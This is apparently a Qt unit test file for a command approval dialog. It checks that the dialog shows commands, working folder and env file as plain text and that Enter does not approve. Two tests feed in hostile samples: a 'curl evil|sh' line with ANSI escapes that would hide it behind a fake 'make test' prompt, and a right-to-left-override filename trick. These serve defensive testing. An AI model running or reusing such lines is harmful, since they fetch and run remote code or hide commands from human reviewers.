// The approval dialog shows exactly what will run, as plain text, with nothing hidden, and does not
// approve on a stray Enter.

#include "CommandApprovalDialog.h"

#include <QDialogButtonBox>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QTest>

using namespace gl;

class TestCommandApprovalDialog final : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void listsCommandsFolderAndEnvFile();
    void hidesNothing();
    void enterDoesNotApprove();
    void screenshot();
};

namespace {
CommandApproval sample()
{
    CommandApproval a;
    a.workingFolder = QStringLiteral("/srv/app");
    a.envFile = QStringLiteral("/srv/app/.env.staging");
    CommandApproval::Entry lint;
    lint.title = QStringLiteral("Lint <b>now</b>");
    lint.commands = { QStringLiteral("npm run lint"), QStringLiteral("npm test | tee out.log") };
    lint.shellReasons = { QString(), QStringLiteral("uses a pipe (|)") };
    a.entries = { lint };
    return a;
}
} // namespace

void TestCommandApprovalDialog::listsCommandsFolderAndEnvFile()
{
    CommandApprovalDialog dialog(sample());
    const QString text = dialog.listing();
    QVERIFY(text.contains(QStringLiteral("Working folder: /srv/app")));
    QVERIFY(text.contains(QStringLiteral("Env file: /srv/app/.env.staging")));
    QVERIFY(text.contains(QStringLiteral("  $ npm run lint\n")));
    QVERIFY(text.contains(QStringLiteral("  $ npm test | tee out.log\n    (runs through /bin/sh -c: uses a pipe (|))")));
    // Markup in a title is text, never formatting.
    QVERIFY(text.contains(QStringLiteral("Lint <b>now</b>")));
    auto *listing = dialog.findChild<QPlainTextEdit *>(QStringLiteral("approvalListing"));
    QVERIFY(listing && listing->isReadOnly());
}

void TestCommandApprovalDialog::hidesNothing()
{
    CommandApproval a = sample();
    a.entries[0].commands = { QStringLiteral("curl evil|sh #\x1b[2K\x1b[1G$ make test"), QStringLiteral("echo \u202Efdp.exe") };
    a.entries[0].shellReasons = { QStringLiteral("uses a pipe (|)"), QString() };
    CommandApprovalDialog dialog(a);
    const QString text = dialog.listing();
    QVERIFY2(text.contains(QStringLiteral("curl evil|sh #\\x1b[2K\\x1b[1G$ make test")), qPrintable(text));
    QVERIFY(text.contains(QStringLiteral("echo \\u202efdp.exe")));
    QVERIFY(!text.contains(QChar(0x1b)));
    QVERIFY(!text.contains(QChar(0x202e)));
}

void TestCommandApprovalDialog::enterDoesNotApprove()
{
    CommandApprovalDialog dialog(sample());
    dialog.show();
    QVERIFY(QTest::qWaitForWindowExposed(&dialog));
    QTest::keyClick(&dialog, Qt::Key_Return);
    QCOMPARE(dialog.result(), int(QDialog::Rejected));
    auto *approve = dialog.findChild<QPushButton *>(QStringLiteral("approveButton"));
    QVERIFY(approve);
    dialog.show();
    approve->click();
    QCOMPARE(dialog.result(), int(QDialog::Accepted));
}

void TestCommandApprovalDialog::screenshot()
{
    // Not a check: a picture for people reviewing the dialog (set GREENLIGHT_SCREENSHOT=path).
    const QString path = qEnvironmentVariable("GREENLIGHT_SCREENSHOT");
    if (path.isEmpty())
        QSKIP("GREENLIGHT_SCREENSHOT not set");
    CommandApproval a = sample();
    a.entries[0].commands.append(QStringLiteral("curl evil|sh #\x1b[2K\x1b[1G$ make test"));
    a.entries[0].shellReasons.append(QStringLiteral("uses a pipe (|)"));
    CommandApproval::Entry health;
    health.title = QStringLiteral("API health");
    health.commands = { QStringLiteral("GET https://staging.example.com/health") };
    a.entries.append(health);
    CommandApprovalDialog dialog(a);
    dialog.show();
    QVERIFY(QTest::qWaitForWindowExposed(&dialog));
    QVERIFY(dialog.grab().save(path));
}

QTEST_MAIN(TestCommandApprovalDialog)
#include "tst_commandapprovaldialog.moc"
